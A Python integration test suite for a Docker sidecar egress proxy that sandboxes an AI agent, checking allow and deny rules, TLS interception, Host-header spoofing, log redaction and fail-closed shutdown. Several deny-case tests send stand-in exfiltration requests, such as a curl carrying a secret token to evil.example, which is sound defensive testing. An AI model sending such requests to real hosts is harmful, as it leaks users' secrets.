"""The sidecar image end to end: an agent with no network reaches its proxy only via the socket.

Everything here is created by the test and removed by id afterwards, also on failure: an
internal bridge network standing in for the internet, upstream servers on it under the names
``allowed.example`` and ``evil.example`` (containers from the sidecar image, which has Python and
openssl), the socket volume, the sidecar, and an agent container with ``--network none``.
No request ever goes to an address this test did not create.
"""

from __future__ import annotations

import json
import secrets
import shlex
import tempfile
import time
import unittest
from pathlib import Path

from bot_bottle import images
from bot_bottle.backend.docker import engine
from bot_bottle.backend.docker.launch import SIDECAR_INIT_CAPS
from tests._docker import resource_snapshot, skip_unless_docker

RUN_DIR = "/run/bottle"
PROXY = "http://127.0.0.1:3128"
AGENT_ENTRY = f"socat TCP-LISTEN:3128,bind=127.0.0.1,fork,reuseaddr UNIX-CONNECT:{RUN_DIR}/proxy.sock & exec sleep infinity"
POLICY = {"version": 1, "log": 2, "routes": [{"host": "allowed.example", "ports": [80, 443]}]}

# The upstream: answers with its name, the path, the Host header it saw and whether TLS was used;
# logs one JSON line per hit. With --tls it first makes a private CA and a certificate for its
# name, serves HTTPS on 443 too, and leaves the CA at /srv/ca.pem for the test to hand the sidecar.
UPSTREAM = r'''
import json, os, ssl, subprocess, sys, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
NAME = sys.argv[1]
class H(BaseHTTPRequestHandler):
    def _go(self):
        tls = isinstance(self.connection, ssl.SSLSocket)
        print(json.dumps({"hit": NAME, "path": self.path, "tls": tls}), flush=True)
        body = f"hello from {NAME} path={self.path} host={self.headers.get('host')} tls={tls}\n".encode()
        self.send_response(200); self.send_header("content-length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    do_GET = do_POST = _go
    def log_message(self, *a): pass
if "--tls" in sys.argv:
    d = "/srv"
    run = lambda *a: subprocess.run(a, check=True, capture_output=True)
    run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=test upstream CA",
        "-addext", "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=critical,keyCertSign",
        "-keyout", f"{d}/ca.key", "-out", f"{d}/ca.tmp")
    run("openssl", "req", "-newkey", "rsa:2048", "-nodes", "-subj", f"/CN={NAME}", "-keyout", f"{d}/srv.key", "-out", f"{d}/srv.csr")
    open(f"{d}/ext", "w").write(f"subjectAltName=DNS:{NAME}\nextendedKeyUsage=serverAuth\n")
    run("openssl", "x509", "-req", "-in", f"{d}/srv.csr", "-CA", f"{d}/ca.tmp", "-CAkey", f"{d}/ca.key",
        "-CAcreateserial", "-days", "2", "-extfile", f"{d}/ext", "-out", f"{d}/srv.pem")
    tls = ThreadingHTTPServer(("0.0.0.0", 443), H)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(f"{d}/srv.pem", f"{d}/srv.key")
    tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
    threading.Thread(target=tls.serve_forever, daemon=True).start()
    os.rename(f"{d}/ca.tmp", f"{d}/ca.pem")
ThreadingHTTPServer(("0.0.0.0", 80), H).serve_forever()
'''


def docker(*args: str, timeout: float = 120, check: bool = True) -> engine.DockerResult:
    return engine.run(list(args), timeout=timeout, check=check)


def wait_for(check, what: str, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        if time.monotonic() > deadline:
            raise AssertionError(f"{what} did not happen within {timeout:g} s")
        time.sleep(0.1)


class Lab:
    """One private internet, one sidecar, one agent; removed by id when the test class ends."""

    def __init__(self, owner: type[unittest.TestCase]) -> None:
        self.label = f"bot-bottle.test=sidecar-proxy-{secrets.token_hex(6)}"
        self.before = resource_snapshot(label=self.label)
        self.owner = owner
        self.sidecar_ref = images.ensure_image(images.sidecar_image())
        self.agent_ref = images.ensure_image(images.agent_image("claude"))
        self.tmp = tempfile.TemporaryDirectory(prefix="bb-sidecar-it-")
        owner.addClassCleanup(self.tmp.cleanup)
        self.network = self._make(["network", "create", "--internal", "--label", self.label, f"bb-it-{secrets.token_hex(6)}"],
                                  lambda ref: docker("network", "rm", ref, check=False))
        self.volume = self._make(["volume", "create", "--label", self.label],
                                 lambda ref: docker("volume", "rm", "-f", ref, check=False))
        self.upstreams = {
            "allowed.example": self._upstream("allowed.example", tls=True),
            "evil.example": self._upstream("evil.example", tls=False),
        }
        self.sidecar = self._start_sidecar()
        self.agent = self._container(
            "run", "-d", "--network", "none", "--cap-drop", "ALL", "--security-opt", "no-new-privileges",
            "--volume", f"{self.volume}:{RUN_DIR}", "--entrypoint", "sh", self.agent_ref, "-c", AGENT_ENTRY,
        )
        wait_for(lambda: docker("exec", self.agent, "bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/3128", check=False).returncode == 0,
                 "the agent's forwarder")

    def _make(self, args: list[str], remove) -> str:
        ref = docker(*args).stdout.strip()
        self.owner.addClassCleanup(remove, ref)
        return ref

    def _container(self, verb: str, *args: str) -> str:
        return self._make([verb, "--label", self.label, *args], lambda ref: docker("rm", "-f", "-v", ref, check=False))

    def _upstream(self, name: str, *, tls: bool) -> str:
        argv = ["-c", UPSTREAM, name] + (["--tls"] if tls else [])
        cid = self._container("run", "-d", "--network", self.network, "--network-alias", name,
                              "--entrypoint", "python3", self.sidecar_ref, *argv)
        if tls:
            wait_for(lambda: docker("exec", cid, "test", "-s", "/srv/ca.pem", check=False).returncode == 0,
                     f"{name}'s certificate")
        return cid

    def _start_sidecar(self) -> str:
        cid = self._container(
            "create", "--network", self.network, "--volume", f"{self.volume}:{RUN_DIR}",
            "--cap-drop", "ALL", *(a for cap in SIDECAR_INIT_CAPS for a in ("--cap-add", cap)),
            "--security-opt", "no-new-privileges", "--memory", "512m", self.sidecar_ref,
        )
        config = Path(self.tmp.name) / "config"
        config.mkdir()
        (config / "policy.json").write_text(json.dumps(POLICY))
        docker("cp", f"{config}/.", f"{cid}:/etc/bot-bottle")
        # Test only: the sidecar verifies upstreams against the system store; make that store the
        # private CA of this test's HTTPS upstream, so interception can be checked end to end.
        ca = Path(self.tmp.name) / "upstream-ca.pem"
        docker("cp", f"{self.upstreams['allowed.example']}:/srv/ca.pem", str(ca))
        docker("cp", str(ca), f"{cid}:/etc/ssl/certs/ca-certificates.crt")
        docker("start", cid)
        wait_for(lambda: docker("exec", cid, "test", "-e", f"{RUN_DIR}/ready", check=False).returncode == 0
                 or not self.running(cid), "sidecar readiness")
        if not self.running(cid):
            raise AssertionError("sidecar exited during start:\n" + self.logs(cid))
        return cid

    def running(self, cid: str) -> bool:
        return docker("inspect", "-f", "{{.State.Running}}", cid, check=False).stdout.strip() == "true"

    def logs(self, cid: str) -> str:
        result = docker("logs", cid, check=False)
        return result.stdout + result.stderr

    def agent_sh(self, script: str, *, timeout: float = 60) -> engine.DockerResult:
        env = ["-e", f"http_proxy={PROXY}", "-e", f"HTTP_PROXY={PROXY}", "-e", f"https_proxy={PROXY}", "-e", f"HTTPS_PROXY={PROXY}"]
        return docker("exec", *env, self.agent, "sh", "-c", script, timeout=timeout, check=False)

    def curl(self, *args: str) -> tuple[str, str, int]:
        """(status code, body, curl exit code) for a request from inside the agent."""
        marker = "\n@@status="
        result = self.agent_sh("curl -sS --max-time 20 -w " + shlex.quote(marker + "%{http_code}") + " "
                               + " ".join(shlex.quote(a) for a in args))
        body, _, status = result.stdout.rpartition(marker)
        return status.strip(), body, result.returncode

    def hits(self, upstream: str) -> list[dict]:
        return [json.loads(line) for line in docker("logs", self.upstreams[upstream]).stdout.splitlines()
                if line.startswith("{")]

    def decisions(self) -> list[dict]:
        out = docker("logs", self.sidecar).stdout
        return [json.loads(line) for line in out.splitlines() if line.startswith('{"ts"')]


@skip_unless_docker()
class SidecarProxyTest(unittest.TestCase):
    lab: Lab

    @classmethod
    def setUpClass(cls) -> None:
        cls.lab = Lab(cls)

    def test_agent_has_no_network_but_loopback(self) -> None:
        result = self.lab.agent_sh("ls /sys/class/net; id -un")
        self.assertEqual(result.stdout.split(), ["lo", "node"])
        # Without the proxy nothing resolves or connects (the name is our own upstream's).
        status, _, code = self.lab.curl("--noproxy", "*", "http://allowed.example/direct")
        self.assertNotEqual(code, 0)
        self.assertEqual(status, "000")

    def test_allowed_host_answers_through_the_proxy(self) -> None:
        status, body, code = self.lab.curl("http://allowed.example/hello")
        self.assertEqual((status, code), ("200", 0), body)
        self.assertIn("hello from allowed.example path=/hello", body)
        self.assertIn({"hit": "allowed.example", "path": "/hello", "tls": False}, self.lab.hits("allowed.example"))

    def test_other_host_gets_403_naming_host_and_rule(self) -> None:
        status, body, _ = self.lab.curl("http://evil.example/steal?k=s3cr3t")
        self.assertEqual(status, "403")
        self.assertIn("evil.example", body)
        self.assertIn("default-deny", body)
        self.assertEqual(self.lab.hits("evil.example"), [])

    def test_connect_to_other_host_refused(self) -> None:
        status, _, code = self.lab.curl("-o", "/dev/null", "-w", "%{http_connect}", "https://evil.example/")
        self.assertNotEqual(code, 0)
        self.assertIn("403", status)
        self.assertEqual(self.lab.hits("evil.example"), [])

    def test_connect_to_port_not_in_route_refused(self) -> None:
        status, _, code = self.lab.curl("-o", "/dev/null", "-w", "%{http_connect}", "https://allowed.example:8443/")
        self.assertNotEqual(code, 0)
        self.assertIn("403", status)

    def test_tls_is_intercepted_with_the_bottle_ca(self) -> None:
        status, body, code = self.lab.curl("--cacert", f"{RUN_DIR}/ca.crt", "https://allowed.example/secure")
        self.assertEqual((status, code), ("200", 0), body)
        self.assertIn("hello from allowed.example path=/secure", body)
        self.assertIn("tls=True", body)
        # The agent's own trust store does not know the bottle CA (the launch adds it): the
        # certificate it is shown comes from the proxy, not from the upstream.
        _, _, code = self.lab.curl("https://allowed.example/secure")
        self.assertEqual(code, 60)

    def test_ip_literal_refused(self) -> None:
        ip = docker("inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
                    self.lab.upstreams["evil.example"]).stdout.strip()
        status, body, _ = self.lab.curl(f"http://{ip}/x")
        self.assertEqual(status, "403")
        self.assertIn("ip-literal", body)
        self.assertEqual(self.lab.hits("evil.example"), [])

    def test_host_header_cannot_redirect_the_decision(self) -> None:
        status, body, _ = self.lab.curl("-H", "Host: allowed.example", "http://evil.example/spoof")
        self.assertEqual(status, "403")
        self.assertIn("evil.example", body)
        status, body, _ = self.lab.curl("-H", "Host: evil.example", "http://allowed.example/spoof")
        self.assertEqual(status, "403")
        self.assertIn("host-header-mismatch", body)
        self.assertNotIn("/spoof", [h["path"] for h in self.lab.hits("allowed.example")])
        self.assertEqual(self.lab.hits("evil.example"), [])

    def test_decisions_are_json_lines_on_stdout_and_in_the_log_file(self) -> None:
        self.lab.curl("http://allowed.example/logged")
        self.lab.curl("http://evil.example/logged?token=s3cr3t", "-H", "Authorization: Bearer s3cr3t")
        wait_for(lambda: any(d["host"] == "evil.example" and d["path"] == "/logged" for d in self.lab.decisions()),
                 "the deny line")
        lines = self.lab.decisions()
        allow = [d for d in lines if d["host"] == "allowed.example" and d["path"] == "/logged"]
        deny = [d for d in lines if d["host"] == "evil.example" and d["path"] == "/logged"]
        self.assertEqual(allow[0]["decision"], "allow")
        self.assertEqual(deny[0]["decision"], "deny")
        self.assertEqual(deny[0]["rule"], "default-deny")
        self.assertNotIn("s3cr3t", docker("logs", self.lab.sidecar).stdout)
        in_file = docker("exec", self.lab.sidecar, "cat", "/var/log/bottle/egress.jsonl").stdout
        self.assertIn('"path":"/logged"', in_file)
        self.assertNotIn("s3cr3t", in_file)

    def test_shared_volume_holds_the_certificate_not_the_key(self) -> None:
        listing = self.lab.agent_sh(f"ls -A {RUN_DIR}").stdout.split()
        self.assertEqual(sorted(listing), ["ca.crt", "proxy.sock", "ready"])
        ca = self.lab.agent_sh(f"cat {RUN_DIR}/ca.crt").stdout
        self.assertIn("BEGIN CERTIFICATE", ca)
        self.assertNotIn("PRIVATE KEY", ca)


@skip_unless_docker()
class SidecarFailsClosedTest(unittest.TestCase):
    def test_proxy_death_stops_the_sidecar_and_the_agent_is_offline(self) -> None:
        lab = Lab(type(self))
        status, _, _ = lab.curl("http://allowed.example/before")
        self.assertEqual(status, "200")
        kill = ("import os, signal\n"
                "for p in filter(str.isdigit, os.listdir('/proc')):\n"
                "    cmd = open(f'/proc/{p}/cmdline', 'rb').read()\n"
                "    if int(p) != os.getpid() and any(a.endswith(b'/bottle-proxy') for a in cmd.split(b'\\0')[:2]):\n"
                "        os.kill(int(p), signal.SIGKILL)\n")
        docker("exec", lab.sidecar, "python3", "-c", kill)
        wait_for(lambda: not lab.running(lab.sidecar), "the sidecar stopping", timeout=30)
        code = docker("inspect", "-f", "{{.State.ExitCode}}", lab.sidecar).stdout.strip()
        self.assertEqual(code, "1")
        self.assertIn('"offline"', lab.logs(lab.sidecar))
        status, _, curl_code = lab.curl("http://allowed.example/after")
        self.assertNotEqual(status, "200")
        self.assertNotEqual(curl_code, 0)
        self.assertNotIn("/after", [h["path"] for h in lab.hits("allowed.example")])


@skip_unless_docker()
class NoLeaksTest(unittest.TestCase):
    """Runs a Lab and its cleanups, then checks nothing carrying its label survived."""

    def test_everything_created_is_removed(self) -> None:
        class Probe(unittest.TestCase):
            def runTest(self) -> None:
                pass

        lab = Lab(Probe)
        self.assertFalse(resource_snapshot(label=lab.label).new_since(lab.before).is_empty())
        Probe.doClassCleanups()
        self.assertEqual(Probe.tearDown_exceptions, [])
        leaked = resource_snapshot(label=lab.label).new_since(lab.before)
        self.assertTrue(leaked.is_empty(), leaked)


if __name__ == "__main__":
    unittest.main()
